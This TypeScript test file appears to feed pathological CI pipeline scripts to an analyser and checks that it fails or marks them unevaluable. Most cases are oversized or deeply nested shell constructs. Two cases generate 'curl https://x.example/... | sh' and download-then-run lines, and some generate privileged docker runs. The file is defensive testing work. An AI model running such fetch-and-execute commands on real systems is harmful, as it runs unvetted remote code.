/** Scripts: what a reader of shell stumbles over. One that is cut is not evaluable: green would be a promise about the rest. */
import { type HostileCase, lines, oneFile } from '../hostile-case.ts';

const job = (script: string) =>
  `a:\n  script:\n    - |\n${script
    .split('\n')
    .map((line) => `      ${line}\n`)
    .join('')}`;

const SCRIPTS: readonly (readonly [name: string, script: () => string, state?: HostileCase['state']])[] = [
  ['substitutions without an end', () => '"$('.repeat(20_000), 'not_evaluable'],
  ['substitutions within each other', () => `${'$(echo '.repeat(5_000)}x${')'.repeat(5_000)}`, 'not_evaluable'],
  ['backticks', () => '`'.repeat(50_001)],
  ['backticks with backslashes', () => '\\`echo '.repeat(20_000)],
  ['quotes without an end', () => `echo ${`"'`.repeat(50_001)}`],
  ['one quote', () => `echo "${'x '.repeat(300_000)}`, 'not_evaluable'],
  ['parentheses', () => `${'('.repeat(20_000)}x${')'.repeat(20_000)}`],
  ['open parentheses', () => '( '.repeat(50_000), 'not_evaluable'],
  ['braces', () => `${'{ '.repeat(20_000)}x`, 'not_evaluable'],
  ['brace expansions', () => `echo ${'{a,b}'.repeat(5_000)}`],
  ['parameters within each other', () => `echo ${'${a:-'.repeat(10_000)}x${'}'.repeat(10_000)}`, 'not_evaluable'],
  ['arithmetic', () => `echo $((${'('.repeat(10_000)}1${')'.repeat(10_000)}))`],
  ['arithmetic without an end', () => 'echo $(('.repeat(10_000), 'not_evaluable'],
  ['if within if', () => `${'if x; then '.repeat(3_000)}y${'; fi'.repeat(3_000)}`, 'not_evaluable'],
  ['if without fi', () => 'if x; then '.repeat(20_000), 'not_evaluable'],
  ['case within case', () => 'case x in a) '.repeat(10_000), 'not_evaluable'],
  ['loops', () => `${'for i in a; do '.repeat(3_000)}y${'; done'.repeat(3_000)}`, 'not_evaluable'],
  ['functions', () => lines(20_000, (n) => `f${n}() { f${n + 1}; }`), 'not_evaluable'],
  ['functions within functions', () => `${'f() { '.repeat(5_000)}x${'; }'.repeat(5_000)}`, 'not_evaluable'],
  ['here documents without an end', () => lines(5_000, (n) => `cat <<E${n}`)],
  ['one here document', () => `cat <<E\n${'x\n'.repeat(100_000)}E`, 'not_evaluable'],
  ['many here documents on a line', () => `cat ${'<<A '.repeat(20_000)}`],
  ['here strings', () => `cat ${'<<< '.repeat(20_000)}`],
  ['pipes', () => `x${' | x'.repeat(50_000)}`, 'not_evaluable'],
  ['and and or', () => `x${' && x || y'.repeat(30_000)}`, 'not_evaluable'],
  ['semicolons', () => 'x;'.repeat(100_000), 'not_evaluable'],
  ['a million words', () => `echo ${'x '.repeat(900_000)}`, 'not_evaluable'],
  ['one word of a megabyte', () => `echo ${'x'.repeat(1_500_000)}`, 'not_evaluable'],
  ['redirections', () => `x ${'>f '.repeat(50_000)}`],
  ['assignments', () => lines(50_000, (n) => `A${n}=$A${n - 1}`), 'not_evaluable'],
  ['assignments that double', () => `A0=xxxxxxxxxx\n${lines(60, (n) => `A${n + 1}=$A${n}$A${n}`)}docker run $A60`],
  ['exports', () => `export ${lines(20_000, (n) => `A${n}=b \\`)}`, 'not_evaluable'],
  ['line ends with backslashes', () => '\\\n'.repeat(200_000), 'not_evaluable'],
  ['sh -c within sh -c', () => `${'sh -c "'.repeat(5_000)}x`],
  ['eval of eval', () => `${'eval '.repeat(50_000)}x`, 'not_evaluable'],
  ['sudo of sudo', () => `${'sudo '.repeat(50_000)}x`, 'not_evaluable'],
  ['env with many', () => `env ${'A=b '.repeat(100_000)}x`, 'not_evaluable'],
  ['docker run with options', () => `docker run ${'-v /a:/b '.repeat(50_000)}x`, 'not_evaluable'],
  ['docker run by the thousand', () => lines(10_000, () => 'docker run --privileged x'), 'not_evaluable'],
  ['downloads by the thousand', () => lines(5_000, (n) => `curl https://x.example/${n} | sh`), 'failed'],
  [
    'downloads that are run later',
    () => `${lines(3_000, (n) => `curl -o f${n} https://x.example/${n}`)}${lines(3_000, (n) => `sh f${n}`)}`,
    'failed',
  ],
  ['comments', () => `# ${'x'.repeat(1_000_000)}`, 'not_evaluable'],
  ['dollars', () => `echo ${'$'.repeat(500_000)}`, 'not_evaluable'],
  ['stars', () => `ls ${'*'.repeat(500_000)}`, 'not_evaluable'],
  ['control characters in escapes', () => `echo $'${'\\x00'.repeat(100_000)}'`, 'not_evaluable'],
  ['coprocesses and time', () => 'coproc time ! '.repeat(20_000), 'not_evaluable'],
  ['array indexes', () => `a${'[a'.repeat(20_000)}`],
  ['conditional expressions', () => `[[ ${'( '.repeat(10_000)}`],
  ['process substitutions', () => `cat ${'<('.repeat(10_000)}`, 'not_evaluable'],
  ['PowerShell', () => `$x = ${'@{ a = '.repeat(10_000)}`, 'not_evaluable'],
];

const LINES: readonly HostileCase[] = [
  oneFile(
    'a hundred thousand lines of script',
    () => `a:\n  script:\n${lines(100_000, () => '    - make')}`,
    'failed',
    /too big/,
  ),
  oneFile(
    'one long script in two thousand jobs',
    () => `.s: &s\n${lines(400, () => '  - make all && make test')}${lines(2_000, (n) => `j${n}: {script: *s}`)}`,
    'failed',
    /too big/,
  ),
  oneFile(
    'a thousand jobs with scripts of their own',
    () =>
      lines(
        1_000,
        (n) =>
          `j${n}:\n  script:\n${lines(40, (k) => `    - apt-get install -y p${n}-${k} && docker build . -t x${k} | tee log`)}`,
      ),
    'failed',
    /too large/,
  ),
  oneFile('scripts nested in lists', () => `a: {script: ${'['.repeat(9)}make${']'.repeat(9)}}\n`, 'passed'),
];

export const scripts: readonly HostileCase[] = [
  ...SCRIPTS.map(([name, script, state = 'passed']) =>
    oneFile(`a script of ${name}`, () => job(script()), state, state === 'not_evaluable' ? /a script/ : undefined),
  ),
  ...LINES,
];
